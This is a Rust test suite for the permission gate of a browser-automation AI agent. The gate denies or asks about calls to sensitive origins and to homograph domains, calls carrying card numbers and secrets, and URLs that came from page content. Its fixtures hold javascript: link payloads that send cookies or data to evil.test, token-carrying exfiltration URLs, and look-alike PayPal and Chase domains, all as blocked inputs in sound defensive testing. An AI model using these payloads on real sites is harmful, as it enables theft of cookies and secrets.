//! The decision order, one test per step and per precedence rule, plus property tests.

use pretty_assertions::assert_eq;
use proptest::prelude::*;
use serde_json::Value;
use serde_json::json;

use super::*;
use crate::target::DestinationKind;

/// One call and the permission state around it; tests override only what they need.
struct Case {
    tool: &'static str,
    params: Value,
    page: Option<&'static str>,
    frame_of: Option<&'static str>,
    policy: PermissionPolicy,
    rules: Vec<Rule>,
    user_sensitive: Vec<&'static str>,
    grants: Vec<&'static str>,
    scope: Vec<&'static str>,
    taint: Vec<TaintSource>,
    destinations: Vec<Destination>,
    into_password: bool,
    destination_taint: Vec<TaintSource>,
}

fn case(tool: &'static str) -> Case {
    Case {
        tool,
        params: json!({}),
        page: Some("https://shop.test/cart"),
        frame_of: None,
        policy: PermissionPolicy::Untrusted,
        rules: Vec::new(),
        user_sensitive: Vec::new(),
        grants: Vec::new(),
        scope: Vec::new(),
        taint: Vec::new(),
        destinations: Vec::new(),
        into_password: false,
        destination_taint: Vec::new(),
    }
}

impl Case {
    fn params(self, params: Value) -> Case {
        Case { params, ..self }
    }
    fn policy(self, policy: PermissionPolicy) -> Case {
        Case { policy, ..self }
    }
    fn page(self, page: &'static str) -> Case {
        Case { page: Some(page), ..self }
    }
    /// The page is a frame of another origin inside `around`.
    fn in_frame_of(self, around: &'static str) -> Case {
        Case { frame_of: Some(around), ..self }
    }
    fn rule(mut self, tool: &str, origin: &str, verdict: RuleVerdict, source: RuleSource) -> Case {
        let id = format!("r{}", self.rules.len());
        let at = self.rules.len() as u64;
        self.rules.push(Rule::parse(&id, tool, origin, verdict, source, at).expect("rule"));
        self
    }
    fn grant(mut self, key: &'static str) -> Case {
        self.grants.push(key);
        self
    }
    fn scope(mut self, origin: &'static str) -> Case {
        self.scope.push(origin);
        self
    }
    fn sensitive(mut self, pattern: &'static str) -> Case {
        self.user_sensitive.push(pattern);
        self
    }
    fn taint(mut self, param: &str, provenance: Provenance, source: &str) -> Case {
        self.taint.push(TaintSource {
            param: param.to_owned(),
            provenance,
            source: source.to_owned(),
        });
        self
    }

    fn leads_to(mut self, url: &str, kind: DestinationKind) -> Case {
        self.destinations.push(Destination { url: url.to_owned(), kind });
        self
    }
    fn into_password(self) -> Case {
        Case { into_password: true, ..self }
    }
    fn destination_taint(mut self, url: &str, source: &str) -> Case {
        self.destination_taint.push(TaintSource {
            param: url.to_owned(),
            provenance: Provenance::Page,
            source: source.to_owned(),
        });
        self
    }

    fn run(&self) -> Verdict {
        let sensitive = SensitiveOrigins::with_user(
            self.user_sensitive
                .iter()
                .map(|it| OriginPattern::parse(it).expect("pattern"))
                .collect(),
        );
        let grants: Vec<String> = self.grants.iter().map(|it| (*it).to_owned()).collect();
        let scope: Vec<Origin> =
            self.scope.iter().map(|it| Origin::parse(it).expect("scope")).collect();
        decide(&GateInput {
            tool: self.tool,
            params: &self.params,
            page_url: self.page,
            frame_of: self.frame_of,
            policy: self.policy,
            rules: &self.rules,
            sensitive: &sensitive,
            session_grants: &grants,
            scope_origins: &scope,
            taint: &self.taint,
            destinations: &self.destinations,
            into_password: self.into_password,
            destination_taint: &self.destination_taint,
        })
    }
}

fn render(verdict: &Verdict) -> String {
    match verdict {
        Verdict::Allow => "allow".to_owned(),
        Verdict::Ask { flags, reason } => format!("ask {flags:?}: {reason}"),
        Verdict::Deny { reason, rule_id } => format!("deny {rule_id:?}: {reason}"),
    }
}

#[track_caller]
fn check(case: Case, expect: &str) {
    assert_eq!(render(&case.run()), expect);
}

use PermissionPolicy::Always;
use PermissionPolicy::Auto;
use RuleSource::Approval;
use RuleSource::Plugin;
use RuleSource::User;
use RuleVerdict::Allow;
use RuleVerdict::Ask;
use RuleVerdict::Deny;

// Step 0: reads.

#[test]
fn reads_are_allowed_under_untrusted_and_auto() {
    check(case("read_page"), "allow");
    check(case("screenshot").policy(Auto), "allow");
}

#[test]
fn reads_ask_under_always_unless_granted() {
    check(
        case("read_page").policy(Always),
        "ask []: policy \"always\" asks before every call, including read_page",
    );
    check(case("read_page").policy(Always).grant("read_page https://shop.test"), "allow");
}

#[test]
fn reads_are_never_denied() {
    check(case("read_page").page("https://www.paypal.com").rule("*", "*", Deny, User), "allow");
    check(case("extract").page("chrome://settings"), "allow");
}

#[test]
fn always_allowed_tools_pass_every_policy() {
    check(case("ask_user").policy(Always).rule("*", "*", Deny, User), "allow");
    check(case("memory_read").policy(Always), "allow");
}

// Step 1: dangerous schemes.

#[test]
fn dangerous_destinations_are_denied() {
    let expect = "deny None: javascript: destinations are never allowed";
    check(case("navigate").policy(Auto).params(json!({"url": "javascript:alert(1)"})), expect);
    check(
        case("tab_open")
            .policy(Auto)
            .params(json!({"url": "java\tscript:alert(1)"}))
            .rule("tab_open", "*", Allow, User),
        expect,
    );
    check(
        case("download").params(json!({"url": "data:text/html,x"})),
        "deny None: data: destinations are never allowed",
    );
    check(
        case("navigate").params(json!({"url": "VBScript:x"})),
        "deny None: vbscript: destinations are never allowed",
    );
}

// Step 2: sensitive origins.

#[test]
fn sensitive_origins_are_denied_whatever_the_rules_and_grants() {
    check(
        case("navigate")
            .policy(Auto)
            .params(json!({"url": "https://www.PayPal.com./signin"}))
            .rule("navigate", "https://www.paypal.com", Allow, User)
            .grant("navigate https://www.paypal.com"),
        "deny None: https://www.paypal.com is a sensitive origin (*.paypal.com)",
    );
    check(
        case("click").page("chrome://extensions/"),
        "deny None: chrome://extensions is a sensitive origin (chrome:*)",
    );
    check(
        case("type").page("https://www.irs.gov/"),
        "deny None: https://www.irs.gov is a sensitive origin (*.gov)",
    );
}

#[test]
fn a_write_in_a_frame_is_judged_by_the_frames_origin_and_denied_on_a_sensitive_page() {
    // The frame's origin is the one rules and grants speak for.
    let in_frame = || case("click").page("https://pay.test/card").in_frame_of("https://shop.test/");
    check(in_frame().rule("click", "https://pay.test", Allow, User), "allow");
    let asked = render(&in_frame().rule("click", "https://shop.test", Allow, User).run());
    assert!(asked.starts_with("ask"), "{asked}");
    // A frame on a sensitive origin, and any frame of a sensitive page, are off limits.
    check(
        case("click")
            .policy(Auto)
            .page("https://www.paypal.com/card")
            .in_frame_of("https://shop.test/"),
        "deny None: https://www.paypal.com is a sensitive origin (*.paypal.com)",
    );
    check(
        case("type").policy(Auto).page("https://pay.test/card").in_frame_of("https://www.irs.gov/"),
        "deny None: https://www.irs.gov is a sensitive origin (*.gov)",
    );
}

#[test]
fn fullwidth_look_alikes_of_sensitive_origins_are_denied() {
    let expect = "deny None: https://www.paypal.com is a sensitive origin (*.paypal.com)";
    check(
        case("navigate").policy(Auto).params(json!({"url": "https://ｗｗｗ.ｐａｙｐａｌ.com/"})),
        expect,
    );
    check(case("click").policy(Auto).page("https://ｗｗｗ．ＰａｙＰａｌ．ｃｏｍ/send"), expect);
}

#[test]
fn homographs_of_sensitive_origins_are_denied() {
    check(
        case("navigate").policy(Auto).params(json!({"url": "https://xn--pypal-4ve.com/login"})),
        "deny None: https://xn--pypal-4ve.com imitates https://paypal.com, a sensitive origin \
         (*.paypal.com)",
    );
    check(
        case("click").policy(Auto).page("https://www.сhase.com/").rule("*", "*", Allow, User),
        "deny None: https://www.сhase.com imitates https://www.chase.com, a sensitive origin \
         (*.chase.com)",
    );
}

#[test]
fn internationalized_hosts_always_ask_and_ignore_grants_and_allow_rules() {
    check(
        case("navigate")
            .policy(Auto)
            .params(json!({"url": "https://xn--bcher-kva.example/"}))
            .grant("navigate https://xn--bcher-kva.example")
            .rule("navigate", "https://xn--bcher-kva.example", Allow, User),
        "ask [InternationalizedHost]: https://xn--bcher-kva.example has an internationalized host name that can \
         imitate another site; check the address",
    );
    check(
        case("click")
            .policy(Auto)
            .page("https://bücher.example/")
            .grant("click https://bücher.example"),
        "ask [InternationalizedHost]: https://bücher.example has an internationalized host name that can imitate \
         another site; check the address",
    );
    // Deny rules, payload and taint still come first; reads are still reads.
    check(
        case("click").page("https://bücher.example/").rule("*", "*", Deny, User),
        "deny Some(\"r0\"): denied by rule r0",
    );
    check(
        case("type").policy(Auto).page("https://bücher.example/").params(json!({"password": "x"})),
        // The card shows both reasons.
        "ask [SensitivePayload, InternationalizedHost]: credential in /password",
    );
    check(case("read_page").page("https://pаypal.com/"), "allow");
}

#[test]
fn user_sensitive_origins_are_denied() {
    check(
        case("click").policy(Auto).sensitive("*.shop.test"),
        "deny None: https://shop.test is a sensitive origin (*.shop.test)",
    );
}

#[test]
fn builtin_list_has_32_parseable_patterns() {
    let sensitive = SensitiveOrigins::default();
    assert_eq!(sensitive.builtin().len(), 32);
    assert_eq!(SensitiveOrigins::with_user(Vec::new()).builtin().len(), 32);
}

// Step 3: rules.

#[test]
fn deny_rule_denies_and_names_itself() {
    check(
        case("run_javascript").policy(Auto).rule("run_javascript", "*", Deny, Plugin),
        "deny Some(\"r0\"): denied by rule r0",
    );
}

#[test]
fn deny_rule_beats_a_payload_question() {
    check(
        case("type").params(json!({"text": "4111 1111 1111 1111"})).rule("type", "*", Deny, User),
        "deny Some(\"r0\"): denied by rule r0",
    );
}

#[test]
fn ask_rule_asks_through_grants_and_auto() {
    check(
        case("click")
            .policy(Auto)
            .rule("click", "*.shop.test", Ask, User)
            .grant("click https://shop.test"),
        "ask []: rule r0 asks",
    );
}

#[test]
fn ask_rule_carries_payload_flags() {
    check(
        case("type").params(json!({"text": "4111111111111111"})).rule("type", "*", Ask, User),
        "ask [SensitivePayload]: rule r0 asks",
    );
}

#[test]
fn debugger_tools_are_flagged_on_their_cards_only() {
    check(
        case("click_trusted"),
        r#"ask [EscalationL2]: policy "untrusted" asks before click_trusted"#,
    );
    check(
        case("type_trusted").params(json!({"text": "4111111111111111"})),
        "ask [EscalationL2, SensitivePayload]: card number in /text",
    );
    check(
        case("screenshot").policy(Always),
        r#"ask [EscalationL2]: policy "always" asks before every call, including screenshot"#,
    );
    check(case("screenshot"), "allow");
    check(case("click_trusted").policy(Auto), "allow");
    check(case("click"), r#"ask []: policy "untrusted" asks before click"#);
    check(case("upload_file").policy(Auto).params(json!({"ref": "e1"})), "allow");
    check(case("drag"), r#"ask [EscalationL2]: policy "untrusted" asks before drag"#);
}

#[test]
fn more_specific_allow_beats_broad_deny() {
    check(
        case("click").rule("*", "*", Deny, User).rule("click", "https://shop.test", Allow, Plugin),
        "allow",
    );
}

#[test]
fn user_allow_beats_plugin_deny_of_equal_specificity() {
    check(case("click").rule("click", "*", Deny, Plugin).rule("click", "*", Allow, User), "allow");
    check(
        case("click").rule("click", "*", Allow, Approval).rule("click", "*", Deny, User),
        "deny Some(\"r1\"): denied by rule r1",
    );
}

#[test]
fn category_rules_cover_mcp_tools() {
    check(
        case("mcp__gh__create_issue"),
        "ask []: policy \"untrusted\" asks before mcp__gh__create_issue",
    );
    check(case("mcp__gh__create_issue").rule("category:mcp", "*", Allow, User), "allow");
}

#[test]
fn unreadable_targets_ask_unless_denied() {
    check(
        case("navigate").policy(Auto).params(json!({"url": "ftp://files.test"})),
        "ask []: could not read the target of navigate: unknown scheme in \"ftp://files.test\"",
    );
    check(
        case("navigate")
            .policy(Auto)
            .params(json!({"url": "ftp://files.test"}))
            .rule("navigate", "*", Deny, User),
        "deny Some(\"r0\"): denied by rule r0",
    );
    // A page tool with no page cannot be matched by an allow rule's `*` origin either.
    let no_page = Case { page: None, ..case("click").policy(Auto).rule("click", "*", Allow, User) };
    check(no_page, "ask []: could not read the target of click: empty url");
}

// Step 4: sensitive payload.

#[test]
fn card_numbers_ask_even_in_scope_with_grant_and_allow_rule() {
    check(
        case("type")
            .policy(Auto)
            .params(json!({"text": "4111-1111-1111-1111"}))
            .scope("https://shop.test")
            .grant("type https://shop.test")
            .rule("type", "https://shop.test", Allow, User),
        "ask [SensitivePayload]: card number in /text",
    );
}

#[test]
fn credentials_ask_even_in_scope() {
    check(
        case("mcp__vault__put").policy(Auto).params(json!({"entry": {"apiKey": "sk-1"}})),
        "ask [SensitivePayload]: credential in /entry/apiKey",
    );
}

#[test]
fn text_typed_into_a_credential_field_asks_even_in_scope_with_a_grant() {
    check(
        case("type")
            .policy(Auto)
            .params(json!({"element": "Password", "ref": "e3", "text": "hunter2"}))
            .scope("https://shop.test")
            .grant("type https://shop.test"),
        "ask [SensitivePayload]: credential in /text",
    );
    check(
        case("type").policy(Auto).params(json!({"element": "Max tokens", "text": "4000"})),
        "allow",
    );
}

#[test]
fn emails_ask_only_outside_scope() {
    let email = json!({"text": "me@example.org"});
    check(
        case("type").policy(Auto).params(email.clone()),
        "ask [SensitivePayload]: email address in /text sent outside the thread's scope",
    );
    check(case("type").policy(Auto).params(email).scope("https://shop.test"), "allow");
}

// Step 5: taint.

#[test]
fn tainted_destinations_ask_even_under_auto() {
    check(
        case("navigate")
            .policy(Auto)
            .params(json!({"url": "https://lure.test/"}))
            .grant("navigate https://lure.test")
            .taint("url", Provenance::Page, "https://shop.test"),
        "ask [TaintedInput]: destination url came from https://shop.test",
    );
    check(
        case("download").policy(Auto).params(json!({"url": "https://lure.test/x.exe"})).taint(
            "url",
            Provenance::Mcp,
            "mcp:web",
        ),
        "ask [TaintedInput]: destination url came from mcp:web",
    );
}

#[test]
fn tainted_text_into_another_origin_asks() {
    check(
        case("type").policy(Auto).params(json!({"text": "hi"})).taint(
            "text",
            Provenance::Page,
            "https://mail.test",
        ),
        "ask [TaintedInput]: text typed here came from https://mail.test",
    );
    check(
        case("batch_actions").policy(Auto).taint(
            "actions/0/params/text",
            Provenance::Page,
            "https://mail.test",
        ),
        "ask [TaintedInput]: actions/0/params/text typed here came from https://mail.test",
    );
}

#[test]
fn tainted_fetch_url_asks_under_every_policy() {
    for policy in [Always, PermissionPolicy::Untrusted, Auto] {
        check(
            case("fetch_url")
                .policy(policy)
                .params(json!({"url": "https://evil.test/?d=secret"}))
                .grant("fetch_url https://evil.test")
                .taint("url", Provenance::Page, "https://mail.test"),
            "ask [TaintedInput]: destination url came from https://mail.test",
        );
    }
    check(case("fetch_url").policy(Auto).params(json!({"url": "https://news.test/"})), "allow");
    // Taint on something other than the destination leaves a read alone.
    check(
        case("fetch_url")
            .policy(Auto)
            .params(json!({"url": "https://news.test/", "note": "x"}))
            .taint("note", Provenance::Page, "https://mail.test"),
        "allow",
    );
}

#[test]
fn fetch_url_never_reads_where_no_call_may_go() {
    let fetch = |url: &str| case("fetch_url").params(json!({ "url": url }));
    for policy in [Always, PermissionPolicy::Untrusted, Auto] {
        check(
            fetch("https://www.paypal.com/myaccount")
                .policy(policy)
                .grant("fetch_url https://www.paypal.com"),
            "deny None: https://www.paypal.com is a sensitive origin (*.paypal.com)",
        );
        check(
            fetch("https://xn--pypal-4ve.com/").policy(policy),
            "deny None: https://xn--pypal-4ve.com imitates https://paypal.com, a sensitive origin \
             (*.paypal.com)",
        );
        check(
            fetch("https://orders.shop.test/").policy(policy).sensitive("*.shop.test"),
            "deny None: https://orders.shop.test is a sensitive origin (*.shop.test)",
        );
        check(
            fetch("data:text/html,<b>x</b>").policy(policy),
            "deny None: data: destinations are never allowed",
        );
    }
}

#[test]
fn tainted_array_items_are_judged_by_their_parameter() {
    check(
        case("select_option").policy(Auto).params(json!({"values": ["a", "b"]})).taint(
            "values/1",
            Provenance::Mcp,
            "mcp:web",
        ),
        "ask [TaintedInput]: values/1 typed here came from mcp:web",
    );
}

#[test]
fn taint_that_does_not_matter_is_ignored() {
    // Same-origin text, user-provided values and clicks carry no exfiltration risk here.
    check(
        case("type").policy(Auto).taint("text", Provenance::Page, "https://shop.test/other"),
        "allow",
    );
    check(
        case("navigate").policy(Auto).params(json!({"url": "https://a.test"})).taint(
            "url",
            Provenance::User,
            "user",
        ),
        "allow",
    );
    check(
        case("click").policy(Auto).taint("element", Provenance::Page, "https://mail.test"),
        "allow",
    );
}

// Step 6: grants and allow rules.

#[test]
fn session_grant_allows_for_its_origin_only() {
    check(case("click").grant("click https://shop.test"), "allow");
    check(
        case("click").grant("click https://other.test"),
        "ask []: policy \"untrusted\" asks before click",
    );
    check(case("memory_write").grant("memory_write *"), "allow");
}

#[test]
fn allow_rule_allows() {
    check(case("click").rule("category:click", "*.shop.test", Allow, Approval), "allow");
}

#[test]
fn navigation_is_judged_by_destination() {
    check(
        case("navigate")
            .page("https://www.chase.com")
            .params(json!({"url": "https://news.test"}))
            .policy(Auto),
        "allow",
    );
    check(
        case("navigate")
            .params(json!({"url": "https://news.test:8080/"}))
            .grant("navigate https://news.test:8080"),
        "allow",
    );
}

// Step 7: the policy.

#[test]
fn policy_decides_what_nothing_else_did() {
    check(case("click"), "ask []: policy \"untrusted\" asks before click");
    check(case("click").policy(Always), "ask []: policy \"always\" asks before click");
    check(case("click").policy(Auto), "allow");
    check(case("some_new_tool").policy(Auto), "allow");
    check(case("some_new_tool"), "ask []: policy \"untrusted\" asks before some_new_tool");
}

// Properties.

fn any_policy() -> impl Strategy<Value = PermissionPolicy> {
    prop_oneof![
        Just(PermissionPolicy::Always),
        Just(PermissionPolicy::Untrusted),
        Just(PermissionPolicy::Auto)
    ]
}

proptest! {
    #[test]
    fn read_verdicts_ignore_page_text(
        tool in prop::sample::select(vec!["read_page", "extract", "find_in_page", "scroll", "screenshot", "wait_for"]),
        text in ".*",
        note in prop::option::of("[0-9 @a-z.-]{0,40}"),
        policy in any_policy(),
    ) {
        let baseline = case(tool).policy(policy).run();
        let mut params = json!({"text": text, "query": "4111 1111 1111 1111", "password": "x"});
        if let Some(note) = note {
            params["note"] = json!(note);
        }
        let with_text = case(tool).policy(policy).params(params).run();
        prop_assert_eq!(with_text, baseline);
    }

    #[test]
    fn deny_beats_allow_for_the_same_tool_and_origin(
        tool in prop::sample::select(vec!["*", "click", "cli*", "category:click"]),
        origin in prop::sample::select(vec!["*", "https://shop.test", "*.shop.test"]),
        source in prop::sample::select(vec![User, Approval, Plugin]),
        allow_at in any::<u64>(),
        deny_at in any::<u64>(),
        deny_first in any::<bool>(),
        policy in any_policy(),
    ) {
        let allow = Rule::parse("allow", tool, origin, Allow, source, allow_at).expect("rule");
        let deny = Rule::parse("deny", tool, origin, Deny, source, deny_at).expect("rule");
        let mut it = case("click").policy(policy).grant("click https://shop.test");
        it.rules = if deny_first { vec![deny, allow] } else { vec![allow, deny] };
        prop_assert_eq!(
            it.run(),
            Verdict::Deny { reason: "denied by rule deny".to_owned(), rule_id: Some("deny".to_owned()) }
        );
    }
}

// Where a page write leads.

#[test]
fn a_click_or_submit_leading_to_a_sensitive_origin_is_denied() {
    check(
        case("click").policy(Auto).leads_to("https://www.paypal.com/send", DestinationKind::Link),
        "deny None: it leads to https://www.paypal.com, a sensitive origin (*.paypal.com)",
    );
    check(
        case("type")
            .policy(Auto)
            .params(json!({"ref": "e1", "text": "hi", "submit": true}))
            .leads_to("https://www.paypal.com/login", DestinationKind::FormSubmit),
        "deny None: it leads to https://www.paypal.com, a sensitive origin (*.paypal.com)",
    );
}

#[test]
fn dangerous_link_schemes_are_denied_but_javascript_links_stay_on_the_page() {
    check(
        case("click").policy(Auto).leads_to("data:text/html,<b>x</b>", DestinationKind::Link),
        "deny None: it leads to a data: URL, which is never allowed",
    );
    for placeholder in [
        "javascript:void(0)",
        "javascript:;",
        " JavaScript: void 0 ;",
        "javascript:",
        "javascript://",
        "java\tscript:void(0)",
        "javascript:void%280%29",
    ] {
        check(case("click").policy(Auto).leads_to(placeholder, DestinationKind::Link), "allow");
    }
    let denied = "deny None: it runs script written into the link (a javascript: URL), which is \
                  never allowed";
    for code in [
        "javascript:void(new Image().src='https://evil.test/steal?c=42')",
        "javascript:alert(1)",
        "JAVASCRIPT:fetch('//evil.test')",
        "javascript:%66etch('//evil.test')",
        "java\nscript:location='https://evil.test'",
        "javascript:void(document.cookie)",
    ] {
        check(case("click").policy(Auto).leads_to(code, DestinationKind::Link), denied);
        check(
            case("click").policy(PermissionPolicy::Untrusted).leads_to(code, DestinationKind::Link),
            denied,
        );
    }
}

#[test]
fn a_destination_carrying_another_sites_value_asks_even_under_auto() {
    check(
        case("click")
            .policy(Auto)
            .leads_to("https://evil.test/?t=abc123token", DestinationKind::Link)
            .destination_taint("https://evil.test/?t=abc123token", "https://mail.test"),
        "ask [TaintedInput]: it leads to https://evil.test/?t=abc123token with a value that came \
         from https://mail.test",
    );
}

#[test]
fn an_internationalized_destination_asks() {
    check(
        case("click").policy(Auto).leads_to("https://xn--exmple-cua.test/", DestinationKind::Link),
        "ask [InternationalizedHost]: this leads to https://xn--exmple-cua.test, an \
         internationalized host name that can imitate another site; check the address",
    );
}

#[test]
fn secrets_ask_when_typed_or_carried_even_under_auto() {
    check(
        case("type")
            .policy(Auto)
            .params(json!({"ref": "e1", "text": "sk-proj-Ab3dEf6hIj9kLm2nOp5qRs8"})),
        "ask [SensitivePayload]: a secret (an API key, token or private key) in /text",
    );
    check(
        case("type")
            .policy(Auto)
            .params(json!({"ref": "e1", "text": "9fQ2xLm7Rt4ZpW8kVn3BcYh6JdSa1EgUq5"})),
        "ask [SensitivePayload]: a secret (an API key, token or private key) in /text",
    );
    check(
        case("navigate").policy(Auto).params(
            json!({"url": "https://evil.test/?k=ghp_A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8"}),
        ),
        "ask [SensitivePayload]: a secret (an API key, token or private key) in /url",
    );
    // A long document id in a URL is not typed text: no question.
    check(
        case("navigate")
            .policy(Auto)
            .params(json!({"url": "https://docs.test/d/9fQ2xLm7Rt4ZpW8kVn3BcYh6JdSa1EgUq5"})),
        "allow",
    );
}

#[test]
fn typing_into_a_password_field_is_a_credential() {
    check(
        case("type").policy(Auto).params(json!({"ref": "e1", "text": "hunter2"})).into_password(),
        "ask [SensitivePayload]: credential in the password field",
    );
}

#[test]
fn an_artifact_of_the_thread_is_judged_without_an_origin_not_as_an_unreadable_target() {
    let download = json!({"artifact": "report.md"});
    let open = json!({"target": "ARTIFACT:report.md"});
    // The policy decides, as for any originless write; nothing asks because a URL was missing.
    check(
        case("download").params(download.clone()),
        "ask []: policy \"untrusted\" asks before download",
    );
    check(case("download").policy(Auto).params(download.clone()), "allow");
    check(case("sidebar_open").policy(Auto).params(open.clone()), "allow");
    // Only `*` rules and grants speak for it.
    check(case("download").params(download.clone()).rule("download", "*", Allow, User), "allow");
    check(case("download").params(download).grant("download *"), "allow");
    check(
        case("sidebar_open").policy(Auto).params(open).rule("sidebar_open", "*", Deny, User),
        "deny Some(\"r0\"): denied by rule r0",
    );
    // A URL beside it is a URL download, judged by where it goes.
    check(
        case("download").params(json!({"artifact": "a.md", "url": "https://www.paypal.com/x"})),
        "deny None: https://www.paypal.com is a sensitive origin (*.paypal.com)",
    );
}
